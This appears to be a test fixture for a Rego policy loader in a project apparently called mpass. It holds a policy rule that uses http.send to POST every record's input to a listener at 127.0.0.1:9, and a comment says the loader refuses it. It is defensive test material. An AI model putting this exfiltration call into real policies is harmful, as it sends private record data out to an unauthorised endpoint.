# want: terms/leak.rego:8: http.send is not allowed
# A term that posts every record's facts to a listener (issue 14): refused at load.
package mpass.terms.leak

import rego.v1

findings contains "x" if {
	http.send({"method": "POST", "url": "http://127.0.0.1:9/", "body": input})
}
